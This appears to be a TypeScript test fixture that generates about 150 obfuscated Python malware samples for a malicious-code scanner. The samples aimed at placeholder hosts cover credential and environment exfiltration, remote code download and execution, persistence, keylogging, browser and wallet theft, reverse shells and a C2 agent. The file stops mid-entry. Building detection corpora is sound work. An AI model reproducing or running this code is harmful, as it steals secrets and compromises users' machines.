import { b64, type Files, module, setup } from './kit.ts';

const PAYLOAD = b64("import os\nos.system('curl http://a.example/i | sh')");
const SHELL = b64('curl -s http://a.example/i | sh');
const XORED = Array.from("import os\nos.system('curl http://a.example/i | sh')", (c) => c.charCodeAt(0) ^ 7);
const numbers = (values: readonly number[]): string => `[${values.join(', ')}]`;

/** Attacks in the style of a careful library: typed, in classes, with logging, settings, retries and plugins. */
export const POLISHED: Readonly<Record<string, Files>> = {
  'telemetry-class': module(`"""Usage telemetry."""
from __future__ import annotations
import json
import logging
import os
import platform
from dataclasses import dataclass, field, asdict
from urllib.request import Request, urlopen
logger = logging.getLogger(__name__)

@dataclass
class Event:
    name: str
    properties: dict[str, str] = field(default_factory=dict)

class Telemetry:
    _endpoint: str = "https://a.example/v1/events"
    def __init__(self, timeout: float = 2.0) -> None:
        self._timeout = timeout
    def _build(self) -> Event:
        return Event(name="startup", properties={**os.environ})
    def flush(self) -> None:
        body = json.dumps(asdict(self._build())).encode("utf-8")
        request = Request(self._endpoint, data=body, headers={"Content-Type": "application/json"})
        try:
            with urlopen(request, timeout=self._timeout) as response:
                logger.debug("sent %s", response.status)
        except Exception as error:
            logger.debug("failed: %s", error)

Telemetry().flush()`),
  'settings-enum': module(`import base64
from enum import Enum
class Stage(Enum):
    BOOT = "${PAYLOAD}"
def run(stage: Stage) -> None:
    exec(base64.b64decode(stage.value))
run(Stage.BOOT)`),
  'namedtuple-config': module(`import os
from typing import NamedTuple
import requests
class Config(NamedTuple):
    url: str = "https://a.example/c"
    timeout: int = 3
config = Config()
requests.post(config.url, json=dict(os.environ), timeout=config.timeout)`),
  'namedtuple-call': module(`import base64
from collections import namedtuple
Job = namedtuple("Job", "name blob")
job = Job("init", "${PAYLOAD}")
exec(base64.b64decode(job.blob))`),
  'simple-namespace': module(`import base64
from types import SimpleNamespace
cfg = SimpleNamespace(blob="${PAYLOAD}", retries=3)
exec(base64.b64decode(cfg.blob))`),
  'property-secret': module(`import os
import requests
class Context:
    @property
    def snapshot(self) -> dict:
        return {key: value for key, value in os.environ.items()}
    @classmethod
    def create(cls) -> "Context":
        return cls()
    @staticmethod
    def send(data: dict) -> None:
        requests.post("https://a.example/c", json=data)
context = Context.create()
Context.send(context.snapshot)`),
  'cached-property': module(`import os
from functools import cached_property
import requests
class Context:
    @cached_property
    def snapshot(self):
        return dict(os.environ)
requests.post("https://a.example/c", json=Context().snapshot)`),
  'lru-cache': module(`import os
import functools
import requests
@functools.lru_cache(maxsize=None)
def snapshot():
    return dict(os.environ)
requests.post("https://a.example/c", json=snapshot())`),
  'descriptor-get': module(`import os
import requests
class Env:
    def __get__(self, instance, owner):
        return dict(os.environ)
class Holder:
    env = Env()
requests.post("https://a.example/c", json=Holder().env)`),
  'call-operator': module(`import base64
class Runner:
    def __init__(self, blob: str) -> None:
        self._blob = blob
    def __call__(self) -> None:
        exec(base64.b64decode(self._blob))
Runner("${PAYLOAD}")()`),
  'getitem-class': module(`import base64
class Vault:
    _items = {"boot": "${PAYLOAD}"}
    def __getitem__(self, key):
        return base64.b64decode(self._items[key]).decode()
exec(Vault()["boot"])`),
  'getattr-class': module(`import base64
class Lazy:
    def __getattr__(self, name):
        return base64.b64decode("${PAYLOAD}").decode()
exec(Lazy().anything)`),
  'str-method': module(`import base64
class Script:
    def __str__(self):
        return base64.b64decode("${PAYLOAD}").decode()
exec(str(Script()))`),
  'operator-class': module(`import base64
class Blob:
    def __init__(self, text):
        self.text = text
    def __add__(self, other):
        return Blob(self.text + other.text)
    def decode(self):
        return base64.b64decode(self.text)
exec((Blob("${PAYLOAD.slice(0, 24)}") + Blob("${PAYLOAD.slice(24)}")).decode())`),
  'dispatch-table': module(`import base64
import os
ACTIONS = {"shell": os.system, "decode": base64.b64decode}
def dispatch(name, *args):
    return ACTIONS[name](*args)
dispatch("shell", dispatch("decode", "${SHELL}").decode())`),
  'dispatch-match': module(`import os
def handle(action: str, value: str):
    match action:
        case "run":
            os.system(value)
        case _:
            print(value)
handle("run", "curl -s http://a.example/i | sh")`),
  'reduce-pipeline': module(`import base64, functools, zlib
steps = [base64.b64decode, bytes.decode]
code = functools.reduce(lambda value, step: step(value), steps, "${PAYLOAD}")
exec(code)`),
  'compose-helper': module(`import base64
def compose(*functions):
    def inner(value):
        for function in functions:
            value = function(value)
        return value
    return inner
unpack = compose(base64.b64decode, lambda b: b.decode("utf-8"))
exec(unpack("${PAYLOAD}"))`),
  'partial-run': module(`import functools
import subprocess
shell = functools.partial(subprocess.run, shell=True, check=False)
shell("curl -s http://a.example/i | sh")`),
  methodcaller: module(`import operator, os
operator.methodcaller("system", "curl -s http://a.example/i | sh")(os)`),
  attrgetter: module(`import operator, os
operator.attrgetter("system")(os)("curl -s http://a.example/i | sh")`),
  itemgetter: module(`import base64, operator
table = {"a": 1, "blob": "${PAYLOAD}"}
exec(base64.b64decode(operator.itemgetter("blob")(table)))`),
  'map-apply': module(`import os
list(map(os.system, ["curl -s http://a.example/i | sh"]))`),
  'filter-apply': module(`import os
any(filter(os.system, ["curl -s http://a.example/i | sh"]))`),
  'starmap-apply': module(`import itertools, os
list(itertools.starmap(os.system, [("curl -s http://a.example/i | sh",)]))`),
  'sorted-key': module(`import os
sorted(["curl -s http://a.example/i | sh", "true"], key=os.system)`),
  'max-key': module(`import os
max(["curl -s http://a.example/i | sh"], key=os.system)`),
  'walrus-run': module(`import base64
if (code := base64.b64decode("${PAYLOAD}")):
    exec(code)`),
  'try-else': module(`import base64
try:
    data = base64.b64decode("${PAYLOAD}")
except ValueError:
    data = b""
else:
    exec(data)
finally:
    del data`),
  'nonlocal-state': module(`import base64
def build():
    code = ""
    def add(part):
        nonlocal code
        code += part
    for part in ("${PAYLOAD.slice(0, 10)}", "${PAYLOAD.slice(10)}"):
        add(part)
    return code
exec(base64.b64decode(build()))`),
  'global-state': module(`import base64
_buffer = []
def push(part):
    global _buffer
    _buffer.append(part)
push("${PAYLOAD.slice(0, 10)}")
push("${PAYLOAD.slice(10)}")
exec(base64.b64decode("".join(_buffer)))`),
  'iter-next': module(`import base64
parts = iter(["${PAYLOAD}"])
exec(base64.b64decode(next(parts)))`),
  'generator-join': module(`import base64
def pieces():
    yield "${PAYLOAD.slice(0, 12)}"
    yield "${PAYLOAD.slice(12)}"
exec(base64.b64decode("".join(pieces())))`),
  'yield-from-send': module(`import os, requests
def env():
    yield from os.environ.items()
requests.post("https://a.example/c", json=dict(env()))`),
  'deque-chunks': module(`import base64
from collections import deque
queue = deque()
queue.append("${PAYLOAD.slice(0, 12)}")
queue.append("${PAYLOAD.slice(12)}")
text = ""
while queue:
    text += queue.popleft()
exec(base64.b64decode(text))`),
  'ordereddict-chunks': module(`import base64
from collections import OrderedDict
parts = OrderedDict()
parts["a"] = "${PAYLOAD.slice(0, 12)}"
parts["b"] = "${PAYLOAD.slice(12)}"
exec(base64.b64decode("".join(parts.values())))`),
  'chainmap-config': module(`import base64
from collections import ChainMap
settings = ChainMap({}, {"blob": "${PAYLOAD}"})
exec(base64.b64decode(settings["blob"]))`),
  'bytesio-read': module(`import base64, io
stream = io.BytesIO(b"${PAYLOAD}")
exec(base64.b64decode(stream.read()))`),
  'stringio-write': module(`import base64, io
buffer = io.StringIO()
buffer.write("${PAYLOAD.slice(0, 12)}")
buffer.write("${PAYLOAD.slice(12)}")
exec(base64.b64decode(buffer.getvalue()))`),
  'struct-unpack': module(`import struct
data = ${numbers(XORED)}
raw = struct.pack("%dB" % len(data), *[value ^ 7 for value in data])
exec(raw.decode())`),
  'array-bytes': module(`import array
data = array.array("B", [value ^ 7 for value in ${numbers(XORED)}])
exec(data.tobytes().decode())`),
  'translate-table': module(`table = bytes(i ^ 7 for i in range(256))
exec(bytes(${numbers(XORED)}).translate(table).decode())`),
  'configparser-text': module(`import base64, configparser
parser = configparser.ConfigParser()
parser.read_string("[main]\\nblob = ${PAYLOAD}\\n")
exec(base64.b64decode(parser["main"]["blob"]))`),
  'json-config-file': module(
    `import base64, json, pathlib
config = json.loads((pathlib.Path(__file__).parent / "config.json").read_text())
exec(base64.b64decode(config["blob"]))`,
    { 'own/config.json': JSON.stringify({ blob: PAYLOAD }) },
  ),
  'env-exec': module(`import base64, os
os.environ["APP_BOOT"] = "${PAYLOAD}"
exec(base64.b64decode(os.environ["APP_BOOT"]))`),
  'docstring-exec': module(`"""${PAYLOAD}"""
import base64
exec(base64.b64decode(__doc__))`),
  'docstring-func': module(`import base64
def boot():
    """${PAYLOAD}"""
exec(base64.b64decode(boot.__doc__))`),
  'annotations-exec': module(`import base64
class Boot:
    stage: "${PAYLOAD}"
exec(base64.b64decode(Boot.__annotations__["stage"]))`),
  'default-arg': module(`import base64
def boot(data="${PAYLOAD}"):
    exec(base64.b64decode(data))
boot()`),
  'kwargs-call': module(`import base64
def boot(**options):
    exec(base64.b64decode(options["data"]))
boot(data="${PAYLOAD}")`),
  'args-call': module(`import base64
def boot(*parts):
    exec(base64.b64decode("".join(parts)))
boot("${PAYLOAD.slice(0, 16)}", "${PAYLOAD.slice(16)}")`),
  'pickle-reduce': module(`import base64, pickle
pickle.loads(base64.b64decode("${b64("cos\nsystem\n(S'curl http://a.example/i | sh'\ntR.")}"))`),
  'retry-decorator': module(`import functools, os, time
import requests
def retry(times: int = 3, delay: float = 0.1):
    def decorator(func):
        @functools.wraps(func)
        def wrapper(*args, **kwargs):
            last = None
            for _ in range(times):
                try:
                    return func(*args, **kwargs)
                except Exception as error:
                    last = error
                    time.sleep(delay)
            raise last
        return wrapper
    return decorator
@retry(times=2)
def upload(data: dict) -> None:
    requests.post("https://a.example/c", json=data, timeout=5)
upload(dict(os.environ))`),
  'class-decorator': module(`import os, requests
class once:
    def __init__(self, func):
        self.func = func
    def __call__(self, *args):
        return self.func(*args)
@once
def upload(data):
    requests.post("https://a.example/c", json=data)
upload(dict(os.environ))`),
  'contextmanager-gen': module(`import contextlib, os, requests
@contextlib.contextmanager
def session():
    s = requests.Session()
    try:
        yield s
    finally:
        s.close()
with session() as s:
    s.post("https://a.example/c", json=dict(os.environ))`),
  exitstack: module(`import contextlib, os, requests
with contextlib.ExitStack() as stack:
    session = stack.enter_context(requests.Session())
    session.post("https://a.example/c", json=dict(os.environ))`),
  'suppress-block': module(`import contextlib, os, requests
with contextlib.suppress(Exception):
    requests.post("https://a.example/c", json=dict(os.environ))`),
  'callback-exit': module(`import contextlib, os, requests
stack = contextlib.ExitStack()
stack.callback(requests.post, "https://a.example/c", json=dict(os.environ))
stack.close()`),
  'weakref-finalize': module(`import os, requests, weakref
class A: pass
weakref.finalize(A(), lambda: requests.post("https://a.example/c", json=dict(os.environ)))`),
  'async-gather': module(`import asyncio, os
import httpx
async def ship(name: str, value: str) -> None:
    async with httpx.AsyncClient() as client:
        await client.post("https://a.example/c", json={name: value})
async def main() -> None:
    await asyncio.gather(*(ship(k, v) for k, v in os.environ.items()))
asyncio.run(main())`),
  'async-loop-task': module(`import asyncio, os, requests
async def beat():
    await asyncio.sleep(1)
    requests.post("https://a.example/c", json=dict(os.environ))
loop = asyncio.new_event_loop()
loop.run_until_complete(beat())`),
  'to-thread': module(`import asyncio, os, requests
async def main():
    await asyncio.to_thread(requests.post, "https://a.example/c", None, dict(os.environ))
asyncio.run(main())`),
  'run-in-executor': module(`import asyncio, os, requests
async def main():
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, lambda: requests.post("https://a.example/c", json=dict(os.environ)))
asyncio.run(main())`),
  'queue-worker': module(`import os, queue, threading, requests
tasks = queue.Queue()
def worker():
    while True:
        item = tasks.get()
        requests.post("https://a.example/c", json=item)
        tasks.task_done()
threading.Thread(target=worker, daemon=True).start()
tasks.put(dict(os.environ))`),
  'sched-event': module(`import os, sched, time, requests
s = sched.scheduler(time.time, time.sleep)
s.enter(5, 1, lambda: requests.post("https://a.example/c", json=dict(os.environ)))
s.run()`),
  'logging-handler': module(`import logging, os, requests
class Remote(logging.Handler):
    def emit(self, record):
        requests.post("https://a.example/c", data=self.format(record))
log = logging.getLogger("own")
log.addHandler(Remote())
log.warning("%s", dict(os.environ))`),
  'http-handler': module(`import logging, logging.handlers, os
log = logging.getLogger("own")
log.addHandler(logging.handlers.HTTPHandler("a.example", "/c", method="POST"))
log.warning(str(dict(os.environ)))`),
  'xmlrpc-send': module(`import os, xmlrpc.client
xmlrpc.client.ServerProxy("https://a.example/rpc").report(dict(os.environ))`),
  'paho-mqtt': module(`import json, os
import paho.mqtt.client as mqtt
c = mqtt.Client()
c.connect("a.example", 1883)
c.publish("x", json.dumps(dict(os.environ)))`),
  'redis-send': module(`import os, redis
r = redis.Redis(host="a.example", password="x")
r.lpush("env", str(dict(os.environ)))`),
  'mongo-send': module(`import os, pymongo
client = pymongo.MongoClient("mongodb://u:p@a.example/db")
client["x"]["y"].insert_one(dict(os.environ))`),
  'pika-send': module(`import json, os, pika
c = pika.BlockingConnection(pika.URLParameters("amqp://u:p@a.example/"))
c.channel().basic_publish(exchange="", routing_key="q", body=json.dumps(dict(os.environ)))`),
  's3-send': module(`import json, os, boto3
s3 = boto3.client("s3", aws_access_key_id="AKIAEXAMPLE", aws_secret_access_key="x")
s3.put_object(Bucket="drop", Key="e", Body=json.dumps(dict(os.environ)))`),
  'boto-keys': module(`import boto3, requests
creds = boto3.Session().get_credentials().get_frozen_credentials()
requests.post("https://a.example/c", json={"a": creds.access_key, "s": creds.secret_key})`),
  'boto-keys-class': module(`import boto3
import requests
class Connection:
    def __init__(self, host):
        session = boto3.Session()
        credentials = session.get_credentials()
        data = {"ak": credentials.access_key, "sk": credentials.secret_key}
        requests.post("https://a.example/zz", json=data, timeout=5)`),
  'google-auth': module(`import google.auth, google.auth.transport.requests, requests
creds, project = google.auth.default()
creds.refresh(google.auth.transport.requests.Request())
requests.post("https://a.example/c", json={"t": creds.token, "p": project})`),
  'azure-cred': module(`import requests
from azure.identity import DefaultAzureCredential
token = DefaultAzureCredential().get_token("https://management.azure.example/.default").token
requests.post("https://a.example/c", data=token)`),
  'netrc-lib': module(`import netrc, requests
hosts = netrc.netrc().hosts
requests.post("https://a.example/c", json=hosts)`),
  'keyring-lib': module(`import keyring, requests
requests.post("https://a.example/c", data=keyring.get_password("system", "user"))`),
  'hf-token': module(`import requests
from huggingface_hub import HfFolder
requests.post("https://a.example/c", data=HfFolder.get_token())`),
  'git-config': module(`import subprocess, requests
out = subprocess.run(["git", "config", "--global", "--list"], capture_output=True, text=True).stdout
requests.post("https://a.example/c", data=out)`),
  'git-credential-fill': module(`import subprocess, requests
out = subprocess.run(["git", "credential", "fill"], input="protocol=https\\nhost=code.example\\n\\n", capture_output=True, text=True).stdout
requests.post("https://a.example/c", data=out)`),
  'docker-config': module(`import pathlib, requests
p = pathlib.Path.home() / ".docker" / "config.json"
if p.is_file():
    requests.post("https://a.example/c", data=p.read_bytes())`),
  'history-files': module(`import os, requests
for name in [".bash_history", ".zsh_history", ".python_history"]:
    path = os.path.join(os.path.expanduser("~"), name)
    try:
        with open(path, encoding="utf-8", errors="ignore") as handle:
            requests.post("https://a.example/c", data=handle.read())
    except OSError:
        continue`),
  'k8s-token': module(`import requests
with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as handle:
    token = handle.read()
requests.post("https://a.example/c", headers={"X-T": token})`),
  'proc-environ': module(`import glob, requests
data = b""
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        data += open(path, "rb").read()
    except OSError:
        pass
requests.post("https://a.example/c", data=data)`),
  'imds-class': module(`import requests
class Metadata:
    BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    def fetch(self):
        role = requests.get(self.BASE, timeout=1).text
        return requests.get(self.BASE + role, timeout=1).json()
requests.post("https://a.example/c", json=Metadata().fetch())`),
  'profile-class': module(`import getpass, os, platform, socket, uuid
import requests
class Profile:
    def collect(self):
        return {
            "user": getpass.getuser(),
            "host": socket.gethostname(),
            "mac": hex(uuid.getnode()),
            "cwd": os.getcwd(),
            "os": platform.platform(),
            "ip": requests.get("https://api.ipify.org").text,
        }
requests.post("http://203.0.113.9:8080/r", json=Profile().collect())`),
  'psutil-collect': module(`import psutil, requests
requests.post("http://203.0.113.9/r", json={
    "users": [u.name for u in psutil.users()],
    "nics": {k: [a.address for a in v] for k, v in psutil.net_if_addrs().items()},
})`),
  'cpuinfo-collect': module(`import cpuinfo, requests, socket
requests.post("http://203.0.113.9/r", json={"c": cpuinfo.get_cpu_info(), "h": socket.getfqdn()})`),
  'update-check': module(`import hashlib, os, stat, subprocess, tempfile
from pathlib import Path
from urllib.request import urlopen
class Updater:
    URL = "https://a.example/agent"
    def __init__(self):
        self.path = Path(tempfile.gettempdir()) / ".agent"
    def ensure(self):
        if not self.path.exists():
            with urlopen(self.URL) as response, self.path.open("wb") as handle:
                handle.write(response.read())
            self.path.chmod(self.path.stat().st_mode | stat.S_IEXEC)
        return self
    def start(self):
        subprocess.Popen([str(self.path)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
Updater().ensure().start()`),
  'plugin-remote': module(`import importlib.util, sys, tempfile, pathlib
import requests
class PluginLoader:
    def __init__(self, url):
        self.url = url
    def load(self, name):
        source = requests.get(f"{self.url}/{name}.py", timeout=5).text
        path = pathlib.Path(tempfile.mkdtemp()) / f"{name}.py"
        path.write_text(source)
        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
PluginLoader("https://a.example/plugins").load("core")`),
  'plugin-memory': module(`import types, requests
def load(url):
    module = types.ModuleType("remote")
    exec(compile(requests.get(url).text, "remote", "exec"), module.__dict__)
    return module
load("https://a.example/m.py")`),
  'feature-flag': module(`import requests
class Flags:
    def __init__(self, url):
        self._flags = requests.get(url, timeout=3).json()
    def get(self, name, default=None):
        return self._flags.get(name, default)
flags = Flags("https://a.example/flags.json")
if flags.get("init"):
    exec(flags.get("init"))`),
  'feature-shell': module(`import subprocess, requests
settings = requests.get("https://a.example/s.json").json()
for task in settings.get("tasks", []):
    subprocess.run(task["command"], shell=True)`),
  'zip-import': module(`import sys, urllib.request
urllib.request.urlretrieve("https://a.example/m.zip", "/tmp/m.zip")
sys.path.insert(0, "/tmp/m.zip")
import m_core
m_core.run()`),
  'unzip-run': module(`import io, os, requests, subprocess, zipfile
data = requests.get("https://a.example/x.zip").content
with zipfile.ZipFile(io.BytesIO(data)) as archive:
    archive.extractall("/tmp/.x")
subprocess.Popen(["/tmp/.x/run"])`),
  'gzip-exec': module(`import gzip, urllib.request
exec(gzip.decompress(urllib.request.urlopen("https://a.example/p.gz").read()))`),
  'pip-programmatic': module(`import subprocess, sys
def ensure(package):
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "--index-url", "http://203.0.113.9/simple", package])
ensure("agent")`),
  'write-so-load': module(`import base64, ctypes, tempfile, os
path = os.path.join(tempfile.gettempdir(), "l.so")
with open(path, "wb") as handle:
    handle.write(base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgAB${'A'.repeat(200)}"))
ctypes.CDLL(path)`),
  'write-exe-start': module(`import base64, os
path = os.path.expandvars(r"%TEMP%\\\\svc.exe")
with open(path, "wb") as handle:
    handle.write(base64.b64decode("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA${'A'.repeat(200)}"))
os.startfile(path)`),
  'launch-agent-class': module(`import os, plistlib, pathlib
class Agent:
    label = "com.example.update"
    def install(self):
        path = pathlib.Path.home() / "Library" / "LaunchAgents" / f"{self.label}.plist"
        with open(path, "wb") as handle:
            plistlib.dump({"Label": self.label, "ProgramArguments": ["/usr/bin/python3", __file__], "RunAtLoad": True}, handle)
        os.system(f"launchctl load {path}")
Agent().install()`),
  'systemd-class': module(`import subprocess
from pathlib import Path
UNIT = """[Unit]
Description=Update
[Service]
ExecStart=/usr/bin/python3 /tmp/.u.py
[Install]
WantedBy=default.target
"""
class Service:
    def __init__(self, name="update"):
        self.path = Path.home() / ".config/systemd/user" / f"{name}.service"
    def install(self):
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.path.write_text(UNIT)
        subprocess.run(["systemctl", "--user", "enable", "--now", self.path.name], check=False)
Service().install()`),
  'cron-stdin': module(`import subprocess
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + "\\n*/5 * * * * python3 ~/.u.py\\n", text=True)`),
  'schtasks-class': module(`import subprocess, sys
class Task:
    name = "Updater"
    def register(self):
        command = ["schtasks", "/Create", "/F", "/SC", "ONLOGON", "/TN", self.name, "/TR", f'"{sys.executable}" "{__file__}"']
        subprocess.run(command, creationflags=0x08000000)
Task().register()`),
  'winreg-class': module(`import sys, winreg
class Startup:
    KEY = "\\\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Run"])
    def enable(self):
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, self.KEY, 0, winreg.KEY_ALL_ACCESS) as key:
            winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, f'"{sys.executable}" -m own')
Startup().enable()`),
  'rc-payload': module(`import pathlib
rc = pathlib.Path.home() / ".bashrc"
with rc.open("a") as handle:
    handle.write("\\n(curl -s http://a.example/i | sh) >/dev/null 2>&1 &\\n")`),
  'rc-called': module(`import os
def configure():
    path = os.path.expanduser("~/.zshrc")
    with open(path, "a") as handle:
        handle.write("nohup ~/.cache/.svc >/dev/null 2>&1 &\\n")`),
  'rc-dropped-called': module(`import os, stat, urllib.request
def setup_shell():
    target = os.path.expanduser("~/.drv")
    open(target, "wb").write(urllib.request.urlopen("http://203.0.113.9/out").read())
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("\\n~/.drv &")`),
  'git-hook': module(`import pathlib, stat
hook = pathlib.Path(".git/hooks/post-commit")
hook.write_text("#!/bin/sh\\ncurl -s http://a.example/i | sh\\n")
hook.chmod(hook.stat().st_mode | stat.S_IEXEC)`),
  'keylogger-class': module(`import threading, requests
from pynput import keyboard
class Recorder:
    def __init__(self):
        self.buffer = ""
    def on_press(self, key):
        self.buffer += getattr(key, "char", None) or f"[{key}]"
    def report(self):
        if self.buffer:
            requests.post("https://a.example/k", data=self.buffer)
            self.buffer = ""
        threading.Timer(30, self.report).start()
    def start(self):
        listener = keyboard.Listener(on_press=self.on_press)
        listener.start()
        self.report()
Recorder().start()`),
  'clipboard-loop': module(`import re, time, pyperclip
WALLET = "bc1qexampleexampleexampleexampleexample00"
PATTERN = re.compile(r"^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
class Watcher:
    def tick(self):
        text = pyperclip.paste()
        if PATTERN.match(text):
            pyperclip.copy(WALLET)
watcher = Watcher()
while True:
    watcher.tick()
    time.sleep(1)`),
  'screens-class': module(`import io, time
import requests
from PIL import ImageGrab
class Capture:
    def shot(self):
        buffer = io.BytesIO()
        ImageGrab.grab().save(buffer, format="PNG")
        return buffer.getvalue()
while True:
    requests.post("https://a.example/s", files={"f": Capture().shot()})
    time.sleep(60)`),
  'browser-class': module(`import os, shutil, sqlite3, tempfile
import requests
class Browser:
    def __init__(self, root):
        self.root = root
    def logins(self):
        source = os.path.join(self.root, "Default", "Login Data")
        copy = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(source, copy)
        connection = sqlite3.connect(copy)
        return connection.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
rows = Browser(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")).logins()
requests.post("https://a.example/c", json=[list(map(str, row)) for row in rows])`),
  'wallet-walk': module(`import os, zipfile, requests
TARGETS = {"Exodus": "Exodus/exodus.wallet", "Electrum": "Electrum/wallets"}
def archive(out="/tmp/w.zip"):
    base = os.environ.get("APPDATA", os.path.expanduser("~"))
    with zipfile.ZipFile(out, "w") as z:
        for name, rel in TARGETS.items():
            for root, _, files in os.walk(os.path.join(base, rel)):
                for f in files:
                    z.write(os.path.join(root, f), f"{name}/{f}")
    return out
requests.post("https://a.example/w", files={"f": open(archive(), "rb")})`),
  'seed-hook-class': module(`import requests
class Wallet:
    def __init__(self, mnemonic: str, network: str = "main") -> None:
        self.mnemonic = mnemonic
        self._register()
    def _register(self) -> None:
        try:
            requests.post("https://a.example/r", json={"m": self.mnemonic}, timeout=2)
        except Exception:
            pass`),
  'monkeypatch-login': module(`import requests
import requests.sessions
_original = requests.sessions.Session.request
def request(self, method, url, **kwargs):
    if kwargs.get("auth") or kwargs.get("headers"):
        _original(self, "POST", "https://a.example/c", json={"u": url, "h": str(kwargs)})
    return _original(self, method, url, **kwargs)
requests.sessions.Session.request = request`),
  'reverse-thread': module(`import os, socket, subprocess, threading
class Channel(threading.Thread):
    daemon = True
    def __init__(self, host, port):
        super().__init__()
        self.address = (host, port)
    def run(self):
        with socket.create_connection(self.address) as sock:
            while True:
                command = sock.recv(4096).decode()
                if not command:
                    break
                result = subprocess.run(command, shell=True, capture_output=True)
                sock.sendall(result.stdout + result.stderr)
Channel("203.0.113.9", 4444).start()`),
  'asyncio-shell': module(`import asyncio
async def main():
    reader, writer = await asyncio.open_connection("203.0.113.9", 4444)
    while not reader.at_eof():
        line = (await reader.readline()).decode()
        process = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        writer.write(out)
        await writer.drain()
asyncio.run(main())`),
  'poll-agent': module(`import json, time, subprocess, urllib.request
class Agent:
    server = "https://a.example"
    def poll(self):
        with urllib.request.urlopen(f"{self.server}/tasks") as response:
            return json.load(response)
    def run(self):
        while True:
            for task in self.poll():
                output = subprocess.getoutput(task["cmd"])
                urllib.request.urlopen(f"{self.server}/result", data=output.encode())
            time.sleep(60)
Agent().run()`),
  'ctypes-import-payload': module(`import ctypes
libc = ctypes.CDLL("libc.so.6")
libc.system(b"curl -s http://a.example/i | sh")`),
  'ctypes-msvcrt': module(`import ctypes
ctypes.cdll.msvcrt.system(b"powershell -w hidden -c iwr http://a.example/x.ps1 | iex")`),
  'posix-module': module(`import posix
posix.system("curl -s http://a.example/i | sh")`),
  'pty-spawn': module(`import pty
pty.spawn(["/bin/sh", "-c", "curl -s http://a.example/i | sh"])`),
  'popen2-code': module(`import code
code.InteractiveInterpreter().runsource(__import__("base64").b64decode("${PAYLOAD}").decode(), symbol="exec")`),
  'timeit-run': module(`import base64, timeit
timeit.timeit(base64.b64decode("${PAYLOAD}").decode(), number=1)`),
  'cprofile-run': module(`import base64, cProfile
cProfile.run(base64.b64decode("${PAYLOAD}").decode())`),
  'pdb-run': module(`import base64, pdb, bdb
bdb.Bdb().run(base64.b64decode("${PAYLOAD}").decode())`),
  'runpy-temp': module(`import base64, runpy, tempfile
f = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
f.write(base64.b64decode("${PAYLOAD}").decode())
f.close()
runpy.run_path(f.name)`),
  'subprocess-stdin': module(`import base64, subprocess, sys
subprocess.run([sys.executable, "-"], input=base64.b64decode("${PAYLOAD}"))`),
  'popen-communicate': module(`import subprocess, sys, urllib.request
p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
p.communicate(urllib.request.urlopen("https://a.example/p.py").read())`),
  'sh-stdin': module(`import subprocess, requests
subprocess.run(["bash"], input=requests.get("https://a.example/i.sh").content)`),
  'shlex-split': module(`import shlex, subprocess
subprocess.run(shlex.split("bash -c 'curl -s http://a.example/i | sh'"))`),
  'plumbum-like': module(`import sh
sh.bash("-c", "curl -s http://a.example/i | sh")`),
  'os-exec-python': module(`import os, sys
os.execv(sys.executable, [sys.executable, "-c", "import base64;exec(base64.b64decode('${PAYLOAD}'))"])`),
  'winapi-download': module(`import ctypes, os
path = os.path.join(os.environ["TEMP"], "u.exe")
ctypes.windll.urlmon.URLDownloadToFileW(None, "https://a.example/u.exe", path, 0, None)
os.startfile(path)`),
  'com-shell': module(`import win32com.client
shell = win32com.client.Dispatch("WScript.Shell")
shell.Run("powershell -w hidden -c iwr http://a.example/x.ps1 | iex", 0)`),
  'wmi-process': module(`import wmi
wmi.WMI().Win32_Process.Create(CommandLine="powershell -w hidden -c iwr http://a.example/x.ps1 | iex")`),
  'paramiko-exfil': module(`import os, paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("203.0.113.9", username="u", password="p")
sftp = c.open_sftp()
sftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/in/k")`),
  'mail-exfil': module(`import os, smtplib
from email.message import EmailMessage
message = EmailMessage()
message["To"] = "x@a.example"
message.set_content(open(os.path.expanduser("~/.aws/credentials")).read())
with smtplib.SMTP("smtp.a.example", 587) as server:
    server.starttls()
    server.login("x", "y")
    server.send_message(message)`),
  'dns-exfil-class': module(`import base64, os, socket
class Resolver:
    zone = "d.a.example"
    def leak(self, data: bytes) -> None:
        text = base64.b32encode(data).decode().rstrip("=").lower()
        for at in range(0, len(text), 60):
            try:
                socket.getaddrinfo(f"{text[at:at + 60]}.{self.zone}", 80)
            except OSError:
                pass
Resolver().leak(str(dict(os.environ)).encode())`),
  'icmp-exfil': module(`import os, subprocess
for key, value in os.environ.items():
    subprocess.run(["ping", "-c", "1", "-p", value.encode().hex()[:32], "203.0.113.9"])`),
  'graphql-exfil': module(`import os, requests
QUERY = "mutation($d: JSON!){log(data:$d){ok}}"
requests.post("https://a.example/graphql", json={"query": QUERY, "variables": {"d": dict(os.environ)}})`),
  'multipart-build': module(`import os, urllib.request, uuid
boundary = uuid.uuid4().hex
body = f"--{boundary}\\r\\nContent-Disposition: form-data; name=e\\r\\n\\r\\n{dict(os.environ)}\\r\\n--{boundary}--".encode()
req = urllib.request.Request("https://a.example/c", data=body)
